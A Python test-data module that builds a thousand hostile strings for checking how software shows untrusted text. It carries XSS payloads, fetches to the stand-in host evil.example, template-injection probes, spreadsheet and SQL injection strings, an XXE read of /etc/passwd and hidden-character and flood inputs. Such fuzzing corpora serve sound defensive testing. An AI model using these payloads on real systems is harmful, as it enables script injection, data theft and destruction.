"""A thousand texts that attack whoever shows them, the same ones every time.

What runs sets ``window.owned``, opens a dialog, or asks for something of ``evil.example``.
"""

from collections.abc import Iterator
from itertools import count, islice, product

RUN = ("window.owned=1", "alert(1)", "document.title='owned'", "fetch('//evil.example/f')")
SCRIPTS = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "</title></head><body onload={run}>",
    "<ScRiPt/x>{run}</sCrIpT >",
    "<script src=//evil.example/s.js?{run}></script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script><![CDATA[",
    "</textarea></noscript></template><script>{run}</script>",
    "<<script>{run}//<</script>",
)
HANDLERS = (
    '<img src=x onerror="{run}">',
    "<svg onload={run}>",
    '"onmouseover="{run}" autofocus onfocus="{run}',
    "' onpointerenter='{run}' style='position:fixed;inset:0",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<a href='javascript:{run}' id=content>x</a>",
    "<form action=//evil.example><button formaction=javascript:{run}>x</form>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{run}'>",
    "<base href=//evil.example/><a href={run}>x</a>",
    "<link rel=stylesheet href=//evil.example/c.css?{run}>",
)
DRAWINGS = (
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "</text></g></svg><script>{run}</script>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'></svg>",
    "<math href='javascript:{run}'>x</math>",
)
ENTITIES = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script>{run}&#60;/script>",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&#x3c;img src=x onerror={run}&#x3e; &NotAnEntity; &#0; &#xD800; &#1114112;",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e \\u003cscript\\u003e{run}",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
TEMPLATES = (
    "{{ {run} }}",
    "{{ self.__init__.__globals__ }} {run}",
    "{% raw %}{% include '/etc/passwd' %} {run}",
    "{# {run} #}{% for x in range(99999999) %}",
    "{{constructor.constructor('{run}')()}}",
    "<div v-html=\"'{run}'\" ng-init={run}>",
    "${{run}} #{{run}} <%= {run} %> [[{run}]]",
    "%s %d %(x)s {0} {x.__class__} {run}",
)
STYLES = (
    "</style><style>*{display:none;background:url(//evil.example/b?{run})}</style>",
    "x;background:url(//evil.example/b);{run}",
    "expression({run})",
    "}body{visibility:hidden}/*{run}*/",
    "@import '//evil.example/i.css?{run}';",
    "url(javascript:{run})",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px'>{run}</div>",
)
MARKDOWN = (
    "![i](https://evil.example/i.png?{run})",
    "[x](javascript:{run})",
    "<https://evil.example/{run}> www.evil.example http://evil.example",
    "a|b|c\n|---|---|\n| {run} | `",
    "```\n{run}\n~~~\n    code",
    "# heading\n## {run}\n---\n> quote\n- [ ] task",
    "[^1]: {run}\n[ref]: https://evil.example 'x'\n[ref]",
    "@someone @org/team #1 org/repo#2 mail@evil.example {run}",
    "<!-- {run} --> $$x^{run}$$ :smile: ==mark== ~~strike~~ ***",
    "\\[x\\](y) \\`{run}\\` \\| \\<b>",
)
CELLS = (
    "=cmd|' /C calc'!A0 {run}",
    '=HYPERLINK("//evil.example","{run}")',
    "+1+cmd()",
    "-2+3+{run}",
    "@SUM(1+9)*{run}",
    "\t=1+1 {run}",
    "\r=1+1",
    '","=1+1\n"x',
    '"}],"gate":{"passed":true},"x":["{run}',
    '{"__proto__":{"owned":1}}',
    "'; DROP TABLE outcomes; -- {run}",
    "]]>]]&gt;<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
HIDDEN = (
    "safe \u202etxet desrever\u202c {run}",
    "\u2066\u2067\u2068 isolates never closed {run}",
    "\u202a\u202b\u202d embeddings never closed",
    "ze\u200bro\u200c wi\u200ddth\u2060 \ufeff {run}",
    "so\u00adft hy\u00adphens \u034f\u115f\u3164 fillers",
    "bell\x07null\x00escape\x1b[31m backspace\x08 delete\x7f \x85 {run}",
    "line\u2028paragraph\u2029 form\x0cfeed vertical\x0btab",
    "noncharacters \ufffe \uffff \ufdd0 \U0001fffe \U0010ffff",
    "tags \U000e0061\U000e0062\U000e007f variation \ufe0f\ufe0e \U000e0100",
    "private \ue000\U000f0000 unassigned \u0378 replacement \ufffd",
)
WRITINGS = (
    "סרט טוב מאוד <b>{run}</b> (שלום) 123",
    "فيلم جيد جدا {run} ‏(1) 50%",
    "这部电影非常好看而且没有空格所以一行很长很长很长很长很长很长很长很长很长",
    "映画はとても面白かった。ﾊﾝｶｸ ＦＵＬＬＷＩＤＴＨ",
    "👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈🇩🇪🇺🇳 1️⃣ {run}",
    "ภาพยนตร์เรื่องนี้ดีมากไม่มีช่องว่าง",
    "﷽ 𒐫 ꧅ 𝕳𝖊𝖑𝖑𝖔 ℌ ﬃ ẞ İ ı {run}",
    "नमस्ते दुनिया क्षत्रिय ক্ষ ᠮᠣᠩᠭᠣᠯ",
)
KINDS = (SCRIPTS, HANDLERS, DRAWINGS, ENTITIES, TEMPLATES, STYLES, MARKDOWN, CELLS, HIDDEN, WRITINGS)
HALF_A_PAIR = "half a pair \ud83d, the other half \ude00"
"""No file can hold it, but a callable model may give such a text."""


def floods() -> list[str]:
    """Texts of great length, or that a browser lays out far outside their line."""
    marks = "".join(map(chr, range(0x300, 0x340)))
    return [
        "x" * 100_000,
        "<b>" * 33_333,
        "a " * 50_000,
        "&" * 100_000,
        "\u0645\u0631" * 50_000,
        "𝒳" * 50_000,
        "".join(letter + marks for letter in "zalgo" * 60),
        "\n" * 5_000 + "after line breaks",
        "\t" * 5_000 + "after tabs",
        " " * 5_000 + "after spaces",
        "\u00a0" * 3_000 + "after spaces that do not break",
        "\u200b" * 5_000 + "after spaces of no width",
        "\u202e" * 3_000 + "after overrides",
        "👩‍👩‍👧‍👦" * 2_000,
        "W" * 400 + "<script>window.owned=1</script>",
        "_" * 300 + "/" * 300 + ":" * 300,
        "",
        " ",
        "\n",
        ".",
    ]


def hostile_texts(n: int = 1000) -> list[str]:
    """``n`` different texts: the floods, then all kinds in turn, each with another deed."""
    return [*floods(), *islice(_filled(), n - len(floods()))]


def _filled() -> Iterator[str]:
    seen = set()
    longest = max(map(len, KINDS))
    for turn in count():
        run = f"{RUN[turn % len(RUN)]}//{turn}"
        for place, kind in product(range(longest), KINDS):
            text = kind[place % len(kind)].replace("{run}", run)
            # Now alone, now within a sentence: it is met at the beginning of a place and inside it.
            text = text if (turn + place) % 2 else f"a film {text} indeed"
            if text not in seen:
                seen.add(text)
                yield text
